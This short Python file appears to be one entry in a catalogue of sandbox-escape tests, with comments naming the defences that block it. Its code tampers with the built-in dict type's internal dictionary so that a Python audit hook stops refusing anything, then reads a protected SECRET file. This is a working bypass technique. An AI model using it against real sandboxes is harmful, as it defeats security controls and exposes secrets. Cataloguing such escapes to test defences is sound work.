# Changes the dictionary of a built-in type, so that the audit hook finds nothing to refuse.
# evidence: token
# held by: seccomp, landlock, empty_root, other_user
# with: graph
# needs: python<3.14
class Reach:
    def __eq__(self, members):
        self.kept = members['get']
        members['get'] = lambda *arguments: None
        return True


reach = Reach()
dict.__dict__ == reach
sys._clear_type_cache()
print(open(SECRET, 'rb').read())
